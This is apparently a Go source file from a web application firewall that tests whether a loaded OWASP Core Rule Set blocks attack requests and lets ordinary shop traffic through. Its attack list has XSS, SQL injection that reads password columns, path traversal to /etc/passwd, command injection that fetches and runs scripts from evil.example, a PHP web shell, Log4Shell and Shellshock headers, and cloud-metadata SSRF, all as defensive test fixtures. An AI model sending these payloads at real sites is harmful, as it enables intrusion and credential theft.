package rulesets

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"net/netip"
	"os"
	"path"
	"strings"

	"github.com/qorgan/qorgan/event"
	"github.com/qorgan/qorgan/rulesets/reader"
)

// selfTest is a request whose verdict at level 1 is beyond doubt.
type selfTest struct {
	method, target, typ, body string
	headers                   []event.Field
}

const (
	formType = "application/x-www-form-urlencoded"
	jsonType = "application/json"
)

// A rule set must refuse each of these,
var selfTestAttacks = []selfTest{
	{method: "GET", target: "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"},
	{method: "GET", target: "/?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"},
	{method: "GET", target: "/?redirect=javascript:alert(document.domain)//%3Csvg/onload=alert(1)%3E"},
	{method: "GET", target: "/?id=1%27%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--%20-"},
	{method: "GET", target: "/?id=1%20AND%20SLEEP(5)"},
	{method: "POST", target: "/login", typ: formType, body: "user=admin%27%20OR%201%3D1--%20-&pass=x"},
	{method: "POST", target: "/api", typ: jsonType, body: `{"id":"1' UNION SELECT password FROM users-- -"}`},
	{method: "GET", target: "/?page=../../../../../../etc/passwd"},
	{method: "GET", target: "/?file=..%2f..%2f..%2fwp-config.php"},
	{method: "GET", target: "/.git/config"},
	{method: "GET", target: "/?cmd=;cat%20/etc/passwd"},
	{method: "POST", target: "/", typ: formType, body: "ip=127.0.0.1%7Cwget%20http%3A%2F%2Fevil.example%2Fx.sh"},
	{method: "GET", target: "/?x=$(curl%20http://evil.example/a%7Csh)"},
	{method: "POST", target: "/", typ: formType, body: "x=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%20%3F%3E"},
	{method: "GET", target: "/?x=php://filter/convert.base64-encode/resource=index"},
	{method: "POST", target: "/", typ: formType, body: "data=O%3A8%3A%22Evil_Obj%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bs%3A1%3A%22b%22%3B%7D"},
	{method: "GET", target: "/", headers: []event.Field{{Name: "X-Api-Version", Value: "${jndi:ldap://evil.example/a}"}}},
	{method: "GET", target: "/", headers: []event.Field{{Name: "Referer", Value: "() { :; }; /bin/bash -c id"}}},
	{method: "GET", target: "/?u=http://169.254.169.254/latest/meta-data/"},
	{method: "POST", target: "/", typ: "text/xml", body: `<?xml version="1.0"?><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>`},
	{method: "GET", target: "/", headers: []event.Field{{Name: "Cookie", Value: "x=%3Cscript%3Ealert(1)%3C/script%3E"}}},
}

// and pass each of these.
var selfTestHarmless = []selfTest{
	{method: "GET", target: "/"},
	{method: "HEAD", target: "/"},
	{method: "GET", target: "/favicon.ico"},
	{method: "GET", target: "/blog/2026/11/hello-world/"},
	{method: "GET", target: "/wp-content/themes/simple/style.css?ver=6.9.1"},
	{method: "GET", target: "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"},
	{method: "GET", target: "/?s=winter+boots"},
	{method: "GET", target: "/?s=%D0%B7%D0%B8%D0%BC%D0%BD%D0%B8%D0%B5+%D1%81%D0%B0%D0%BF%D0%BE%D0%B3%D0%B8"},
	{method: "GET", target: "/category/news/page/2/"},
	{method: "GET", target: "/feed/"},
	{method: "GET", target: "/?p=123"},
	{method: "GET", target: "/?utm_source=newsletter&utm_medium=email&utm_campaign=autumn_2026"},
	{method: "GET", target: "/shop/?orderby=price&min_price=1000&max_price=5000"},
	{method: "GET", target: "/robots.txt"},
	{method: "GET", target: "/sitemap.xml"},
	{method: "POST", target: "/wp-login.php", typ: formType, body: "log=aigerim&pwd=correcthorse7battery&wp-submit=Log+In&testcookie=1"},
	{method: "POST", target: "/wp-comments-post.php", typ: formType, body: "comment=Thank+you%2C+very+helpful.&author=Daniyar&email=d%40example.kz&comment_post_ID=1&comment_parent=0"},
	{method: "POST", target: "/contact", typ: formType, body: "name=%D0%90%D0%B9%D0%B3%D0%B5%D1%80%D1%96%D0%BC&message=%D0%A1%D3%99%D0%BB%D0%B5%D0%BC"},
	{method: "POST", target: "/api/items", typ: jsonType, body: `{"title":"Boots","price":1200,"tags":["new","warm"]}`},
	{method: "GET", target: "/", headers: []event.Field{{Name: "Cookie", Value: "wordpress_test_cookie=WP%20Cookie%20check; session=8f14e45fceea167a5a36dedd4bea2543"}}},
	{method: "GET", target: "/", headers: []event.Field{{Name: "Referer", Value: "https://www.google.com/"}, {Name: "Accept-Language", Value: "kk-KZ,kk;q=0.9,ru;q=0.8,en;q=0.7"}}},
}

func (s selfTest) request() (*reader.Request, error) {
	fields := []event.Field{
		{Name: "Host", Value: "shop.example.kz"},
		{Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
		{Name: "Accept", Value: "text/html,application/xhtml+xml,*/*;q=0.8"},
	}
	if s.typ != "" {
		fields = append(fields, event.Field{Name: "Content-Type", Value: s.typ},
			event.Field{Name: "Content-Length", Value: fmt.Sprint(len(s.body))})
	}
	r, err := reader.Head(s.method, s.target, "HTTP/1.1", append(fields, s.headers...), reader.Limits{})
	if err == nil && s.body != "" {
		err = r.ParseBody([]byte(s.body))
	}
	return r, err
}

func selfTestFacts(level int) Facts {
	return Facts{
		Client: netip.MustParseAddr("203.0.113.7"), Peer: netip.MustParseAddrPort("203.0.113.7:40000"),
		Local: netip.MustParseAddrPort("192.0.2.1:443"), Host: "shop.example.kz",
		Level: level, Inbound: defaultInbound, Outbound: defaultOutbound,
	}
}

// selfCheck reports whether an engine tells attacks from harmless requests.
func selfCheck(ctx context.Context, e *engine) error {
	f := selfTestFacts(1)
	var errs []error
	check := func(tests []selfTest, refuse bool) {
		for _, s := range tests {
			r, err := s.request()
			if err != nil {
				errs = append(errs, fmt.Errorf("%s %s: %w", s.method, s.target, err))
				continue
			}
			v, err := e.judge(ctx, "", r, &f, false)
			switch {
			case err != nil:
				errs = append(errs, fmt.Errorf("%s %s: %w", s.method, s.target, err))
			case refuse && !v.Refused:
				errs = append(errs, fmt.Errorf("%s %s %s passed with a score of %d", s.method, s.target, s.body, v.Score))
			case !refuse && v.Refused:
				errs = append(errs, fmt.Errorf("%s %s %s was refused with a score of %d", s.method, s.target, s.body, v.Score))
			}
		}
	}
	check(selfTestAttacks, true)
	check(selfTestHarmless, false)
	return errors.Join(errs...)
}

// openRules opens a folder that holds a release of the Core Rule Set, as its
// archives lay it out (rules/*.conf), or as its Go module does
// (@owasp_crs/*.conf).
func openRules(dir string) (fs.FS, error) {
	root := os.DirFS(dir)
	for _, at := range []string{"@owasp_crs", "rules", "."} {
		if names, _ := fs.Glob(root, path.Join(at, "REQUEST-901-*.conf")); len(names) > 0 {
			return releaseFS{root, at}, nil
		}
	}
	return nil, fmt.Errorf("open rule set: no REQUEST-901-INITIALIZATION.conf in %s or its folder rules; unpack a release of the Core Rule Set there", dir)
}

// releaseFS shows the rule files of a release under @owasp_crs.
type releaseFS struct {
	root fs.FS
	at   string
}

// Open implements fs.FS.
func (r releaseFS) Open(name string) (fs.File, error) {
	rest, ok := strings.CutPrefix(name, "@owasp_crs")
	if !ok {
		return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrNotExist}
	}
	return r.root.Open(path.Join(r.at, strings.TrimPrefix(rest, "/")))
}

// prove compiles a release and puts it through the self-test.
func prove(ctx context.Context, r *release, w *watch) error {
	e, err := newEngine(inbound, r.files, nil, w)
	if err != nil {
		return fmt.Errorf("load rule set from %s: %w", r.name, err)
	}
	if _, err := newEngine(outbound, r.files, nil, w); err != nil {
		return fmt.Errorf("load rule set from %s: %w", r.name, err)
	}
	if err := selfCheck(ctx, e); err != nil {
		return fmt.Errorf("rule set from %s did not pass the self-test: %w", r.name, err)
	}
	return nil
}
